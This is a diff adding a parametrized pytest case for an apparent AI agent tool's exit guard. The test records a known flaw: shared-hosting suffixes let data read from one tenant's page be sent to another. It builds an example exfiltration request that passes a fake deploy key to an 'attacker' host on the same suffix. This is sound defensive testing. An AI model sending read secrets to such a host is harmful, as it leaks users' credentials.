@@ -271,3 +271,27 @@ async def test_the_injecting_page_open_in_a_tab_does_not_receive_secrets(tmp_pat
         exit_refused(body)
     finally:
         await close_linked(stack)
+
+
+# ------------------------------------------------------------------- exit guard: which hosts are "the same site"
+SHARED_SUFFIXES = ["github.io", "vercel.app", "herokuapp.com", "blogspot.com", "s3.amazonaws.com", "gen.in"]
+
+
+@pytest.mark.xfail(strict=True, reason="R9 (medium): exits.site_of groups hosts by their last two labels, not the "
+                                       "Public Suffix List: data read from victim.github.io may go to "
+                                       "attacker.github.io (any shared-hosting suffix)")
+@pytest.mark.parametrize("suffix", SHARED_SUFFIXES)
+async def test_data_from_one_tenant_cannot_go_to_another_on_a_shared_suffix(tmp_path: Path, suffix: str) -> None:
+    # The ExitGuard itself (the daemon's, built the same way): these names need public DNS, which tests lack.
+    from trawl.exits import ExitGuard
+    from trawl.types import ErrorCode, TrawlError
+
+    guard = ExitGuard(daemon_settings(tmp_path))
+    guard.begin_read()
+    secret = "Hx7Rk2Wp9Lm4Qs8Vt3Ny6"
+    guard.observe_result({"final_url": f"https://victim-corp.{suffix}/wiki/keys", "title": "Deploy keys",
+                          "chunks": [{"text": f"The deploy key for the staging cluster is {secret}, rotate it."}]})
+    guard.begin_read()
+    with pytest.raises(TrawlError) as caught:
+        await guard.check(f"https://attacker.{suffix}/c?k={secret}")
+    assert caught.value.code == ErrorCode.EXIT_REFUSED
